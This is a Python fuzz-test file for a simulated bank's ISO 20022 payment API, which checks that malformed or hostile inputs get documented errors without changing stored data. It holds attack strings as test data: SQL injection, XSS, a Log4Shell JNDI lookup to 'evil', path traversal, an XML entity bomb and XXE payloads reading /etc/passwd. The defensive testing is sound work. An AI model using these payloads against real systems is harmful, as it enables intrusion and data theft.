"""Fuzzing the bank adapter: any input gets a Berlin Group error or a valid answer, never a
5xx, and a refused request changes nothing.

Budget: 2,000 generated inputs for this adapter (tests/support/fuzzing.py), split by `share`.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from datetime import date
from urllib.parse import quote

import httpx
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from starlette.testclient import TestClient

from fake_systems.bank import totp
from fake_systems.bank.api.iso20022 import MAX_BODY_BYTES, STATUS_BY_CODE, create_app
from fake_systems.bank.iso_xml import render_pain001
from fake_systems.bank.models import CreditTransfer, PaymentInstruction, PaymentMessage
from fake_systems.bank.service import BankService
from fake_systems.common.credentials import BankCredentials
from tests.support.fuzzing import fuzz_context, fuzz_settings, hostile_text, hostile_values

pytestmark = pytest.mark.fuzz

CREDS = BankCredentials(account="6222000011112222", username="treasury", password="pw-1")
TENANT = BankCredentials(account="6222000033334444", username="treasury-b", password="pw-b")
INJECTIONS = (
    "'; DROP TABLE payments;--",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "../../etc/passwd",
    "1 OR 1=1",
    "Robert'); DELETE FROM entries;--",
)
TABLES = ("payment_messages", "message_transactions", "payments", "entries", "sessions")
UNIQUE = itertools.count()
P2 = "{urn:iso:std:iso:20022:tech:xsd:pain.002.001.10}"


@pytest.fixture(scope="module")
def fake(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, BankService, str]]:
    ctx = fuzz_context("bank", tmp_path_factory)
    service = BankService(ctx, CREDS)
    service.setup()
    app = create_app(service, CREDS, [TENANT])
    with TestClient(app, raise_server_exceptions=False) as client:
        body = {
            "account": CREDS.account,
            "password": "pw-1",
            "otp": totp.totp(CREDS.totp_seed, ctx.clock.wall()),
        }
        token = client.post("/iso20022/login", json=body).json()["session_token"]
        yield client, service, token


def state(service: BankService) -> tuple[int, ...]:
    return tuple(
        service.ctx.conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] for table in TABLES
    )


def check_error(response: httpx.Response) -> str:
    """A documented Berlin Group error: tppMessages with a known code and its status."""
    assert response.status_code < 500, response.text
    (message,) = response.json()["tppMessages"]
    assert message["category"] == "ERROR"
    code = message["code"]
    expected = 413 if response.status_code == 413 else STATUS_BY_CODE[code]
    assert response.status_code == expected
    assert "Traceback" not in message["text"]
    return str(code)


def valid_message(msg_id: str, e2e: str, name: str, remittance: str) -> bytes:
    transfer = CreditTransfer(e2e, None, 100, "CNY", name, "6228480012345678", remittance)
    instruction = PaymentInstruction("PI", date(2026, 11, 10), CREDS.account, (transfer,))
    return render_pain001(
        PaymentMessage(msg_id, "pain.001.001.09", "2026-11-10T20:00:00", 1, 100, (instruction,))
    )


BASE = valid_message("BASE", "E-BASE", "Supplier", "PO 1")
LEAVES = [
    element
    for element in etree.fromstring(BASE).iter()
    if isinstance(element.tag, str) and len(element) == 0
]
ENTITY_BOMBS = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;</r>',
    b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://127.0.0.1:1/x">]><r>&x;</r>',
    b'<!DOCTYPE r SYSTEM "http://127.0.0.1:1/evil.dtd"><r/>',
    b"<?xml version='1.0' encoding='UTF-16'?><r/>",
)


def xml_carried(text: str) -> str:
    """`text` without the characters XML cannot carry (C1 controls and DEL stay: XML can)."""
    return "".join(c for c in text if c in "\t\n\r" or c >= " ")


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    """The base document with one leaf's text replaced, one element dropped or one added."""
    tree = etree.fromstring(BASE)
    nodes = [e for e in tree.iter() if isinstance(e.tag, str)]
    target = nodes[draw(st.integers(0, len(nodes) - 1))]
    action = draw(st.sampled_from(["text", "drop", "extra", "children"]))
    if action == "text" and len(target) == 0:
        target.text = draw(
            st.one_of(
                st.text(max_size=60).filter(lambda t: all(c.isprintable() for c in t)),
                st.sampled_from(
                    ["", "-1", "0", "1e9", "NaN", "99999999999999999.99", "2026-13-40"]
                ),
                hostile_text.map(xml_carried),
            )
        )
    elif action == "drop" and target.getparent() is not None:
        target.getparent().remove(target)
    elif action == "extra":
        etree.SubElement(
            target, target.tag.split("}")[0] + "}" + draw(st.sampled_from(["X", "Nm", "Id", "Amt"]))
        )
    else:
        target.append(etree.fromstring(BASE))
    return bytes(etree.tostring(tree))


BODIES = st.one_of(
    st.binary(max_size=300),
    st.sampled_from(ENTITY_BOMBS),
    mutated(),
    st.binary(min_size=1, max_size=40).map(lambda junk: BASE[:200] + junk + BASE[200:]),
)


@fuzz_settings(share=0.45)
@given(body=BODIES)
def test_any_pain001_body_gets_a_documented_answer(fake, body: bytes) -> None:
    client, service, token = fake
    before = state(service)
    response = client.post(
        "/iso20022/pain.001", content=body, headers={"Authorization": f"Bearer {token}"}
    )
    if response.status_code in (200, 201):
        assert etree.fromstring(response.content).tag == f"{P2}Document"
    else:
        check_error(response)
        assert state(service) == before


@fuzz_settings(share=0.2)
@given(
    name=st.sampled_from(INJECTIONS) | st.text(min_size=1, max_size=30).filter(str.strip),
    remittance=st.sampled_from(INJECTIONS),
)
def test_injection_looking_texts_are_stored_verbatim(fake, name, remittance) -> None:
    client, service, token = fake
    name = "".join(c for c in name if c.isprintable())
    name = name if name.strip() else "x"
    n = next(UNIQUE)  # a new MsgId and EndToEndId each time: never a resend
    msg_id = f"INJ-{n}"
    body = valid_message(msg_id, f"E-{n}", name, remittance)
    response = client.post(
        "/iso20022/pain.001", content=body, headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code in (200, 201), response.text
    row = service.ctx.conn.execute(
        "SELECT creditor_name, remittance FROM payments WHERE end_to_end_id = ?", (f"E-{n}",)
    ).fetchone()
    assert tuple(row) == (name, remittance)
    assert state(service)[0] >= 1  # every table still there


JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**64 - 1)  # what JSON (orjson) carries as integers
    | st.floats()
    | st.text(max_size=20)
    | hostile_values,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=8,
)


@fuzz_settings(share=0.2)
@given(
    body=st.one_of(
        st.binary(max_size=200),
        JSON_VALUES.map(orjson.dumps),
        st.fixed_dictionaries(
            {
                "account": st.sampled_from([CREDS.account, TENANT.account, "x"]),
                "password": st.text(max_size=10),
                "otp": st.text(max_size=8),
            },
            optional={"extra": JSON_VALUES},
        ).map(orjson.dumps),
    )
)
def test_any_login_body_gets_a_documented_refusal(fake, body: bytes) -> None:
    client, service, _ = fake
    before = state(service)
    response = client.post("/iso20022/login", content=body)
    assert check_error(response) in ("FORMAT_ERROR", "PSU_CREDENTIALS_INVALID")
    assert state(service) == before


@fuzz_settings(share=0.15)
@given(
    path=st.sampled_from(["/iso20022/camt.053/statements", "/iso20022/pain.002/"]),
    tail=st.text(max_size=20),
    params=st.dictionaries(
        st.sampled_from(["account", "date", "x"]),
        st.text(max_size=12) | hostile_text.filter(lambda text: len(text) < 10_000),  # URL limit
        max_size=3,
    ),
    auth=st.sampled_from(["good", "none", "junk", "basic"]),
)
def test_any_query_gets_a_documented_answer(fake, path, tail, params, auth) -> None:
    client, service, token = fake
    headers = {
        "good": {"Authorization": f"Bearer {token}"},
        "none": {},
        "junk": {"Authorization": b"Bearer \xc3\xa9\xff"},
        "basic": {"Authorization": "Basic dHJlYXN1cnk6cHctMQ=="},
    }[auth]
    before = state(service)
    url = path + (quote(tail, safe="") if path.endswith("/") else "")
    response = client.get(url, params=params, headers=headers)
    if response.status_code == 200:
        assert auth == "good"
    else:
        check_error(response)
    assert state(service) == before


def test_oversized_bodies_are_refused_before_parsing(fake) -> None:
    client, service, token = fake
    before = state(service)
    response = client.post(
        "/iso20022/pain.001",
        content=b"<" * (MAX_BODY_BYTES + 1),
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code == 413
    check_error(response)
    assert state(service) == before
